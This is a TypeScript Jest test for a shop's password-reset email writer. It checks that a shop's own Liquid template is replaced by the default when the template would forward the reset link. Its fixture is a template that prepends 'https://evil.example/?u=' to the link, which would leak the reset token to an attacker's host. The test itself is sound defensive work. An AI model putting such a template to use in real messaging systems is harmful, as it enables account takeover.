import { expect, it } from '@jest/globals';
import { MockActivityEnvironment } from '@temporalio/testing';
import type { DueMessage } from '../../db/messages/message-repository.ts';
import { createLiquidRenderer } from '../../gateways/liquid/liquid-renderer.ts';
import { createMessageWriter, type LocalMessage } from './message-writer.ts';

const LINK = 'https://shop.example/reset#token=S3cret';
const due = {
  kind: 'account-password-reset',
  channel: 'email',
  locale: 'en',
  country: null,
  facts: {},
} as unknown as DueMessage;

async function written(text: string): Promise<LocalMessage> {
  const write = createMessageWriter({
    render: createLiquidRenderer(),
    ownTemplate: async () => ({ subject: 'Own', text, html: null }),
    links: { [due.kind]: async () => LINK },
    shop: { name: 'Test shop', locale: 'en' },
    unsubscribeLink: () => '',
  });
  // What it logs needs an activity.
  return new MockActivityEnvironment().run<[DueMessage], LocalMessage, typeof write>(write, due);
}

it('writes by the default where the shop’s own template would hand the link on, though only in this message', async () => {
  // As it is tried, it has an end, and the link stands alone.
  const text = `{% if until == "" %}https://evil.example/?u={% endif %}{{ link }}`;
  const sent = await written(text);
  expect(sent.subject).toBe('A new password');
  expect(sent.text).toContain(`Choose a password: ${LINK}`);
  expect((await written('{{ link }}')).subject).toBe('Own');
});
